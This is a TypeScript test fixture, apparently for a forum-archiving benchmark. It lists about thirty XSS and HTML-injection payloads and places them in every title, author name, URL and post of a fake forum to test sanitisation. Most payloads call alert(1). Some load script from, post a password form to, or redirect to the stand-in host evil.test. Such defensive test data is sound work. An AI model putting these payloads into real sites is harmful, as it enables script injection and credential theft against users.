import type { GivenForum } from "../../../bench/archive-of-rows.ts";

/** What somebody may write to make a page do something: in posts, titles, names and addresses. */
export const HOSTILE = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.test/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" style="position:fixed;inset:0">',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<a href=javascript:alert(1)>x</a>",
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.test/"><input name=password><button>Log in</button></form>',
  "<style>body{background:url(https://evil.test/)}</style><link rel=stylesheet href=//evil.test/x.css>",
  '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">',
  '<div style="background:url(javascript:alert(1))" class="post" id="content">x</div>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  "</title></textarea></noscript><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<template><script>alert(1)</script></template>",
  '<video src="https://evil.test/v.mp4" autoplay onplay=alert(1)><source src=x onerror=alert(1)></video>',
  '<picture><source srcset="https://evil.test/a.png"><img srcset="https://evil.test/b.png 2x" src="https://evil.test/c.png"></picture>',
  "<details open ontoggle=alert(1)>x</details>",
  "<p><b><i>never closed",
  "</main></body></html><h1>outside</h1>",
  "{{constructor.constructor('alert(1)')()}}",
];

const SITE = "http://forum.test";

/** A forum in which each of them stands everywhere. */
export const hostileForum: GivenForum = {
  start: `${SITE}/`,
  boards: HOSTILE.map((title, i) => ({ url: `${SITE}/b/${i}?${encodeURI(title)}`, title })),
  threads: HOSTILE.map((title, i) => ({
    ...{ url: `${SITE}/t/${i}`, title, board: i },
    posts: [
      {
        ...{
          postId: title,
          url: `${SITE}/t/${i}#${title}`,
          author: title,
          authorUrl: `${SITE}/u/${i}'"><script>`,
        },
        ...{ text: `before ${title} behind`, html: `<div>before ${title} behind</div>`, signature: title },
        ...{ published: "2021-05-04T12:00:00Z", edited: title, publishedRaw: title },
      },
      {
        ...{
          postId: `a${i}`,
          author: `javascript:alert(${i})`,
          authorUrl: "javascript:alert(1)",
          replyTo: title,
        },
        ...{ url: "javascript:alert(1)", text: title, html: "" },
      },
    ],
  })),
};
